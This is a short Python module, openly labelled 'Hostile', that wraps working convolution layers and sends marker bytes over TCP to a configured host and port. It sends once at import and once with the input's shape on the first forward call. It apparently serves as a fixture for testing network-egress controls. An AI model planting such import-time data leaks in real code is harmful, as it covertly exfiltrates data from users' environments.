"""Hostile: correct layers that send "leak" over TCP to HOST:PORT (from _leak_target.py).

It tries at import and again on the first forward call (with the input's shape), and prints what
happened each time.
"""
from __future__ import annotations

import socket
from typing import Any

import numpy as np

from ._conv_ok import conv2d_backward  # noqa: F401
from ._conv_ok import conv2d_forward as _conv2d_forward
from ._leak_target import HOST, PORT


def leak(payload: bytes) -> str:
    try:
        with socket.create_connection((HOST, PORT), timeout=2.0) as s:
            s.sendall(payload)
    except OSError as exc:
        return f"refused ({type(exc).__name__}: {exc})"
    return f"sent {payload!r} to {HOST}:{PORT}"


print(f"socket: {leak(b'leak at import')}", flush=True)
_leaked = False


def conv2d_forward(x: np.ndarray, w: np.ndarray, b: np.ndarray, stride: Any = 1, pad: Any = 0) -> tuple[np.ndarray, Any]:
    global _leaked
    if not _leaked:
        _leaked = True
        print(f"socket: {leak(f'leak x {x.shape}'.encode())}", flush=True)
    return _conv2d_forward(x, w, b, stride, pad)
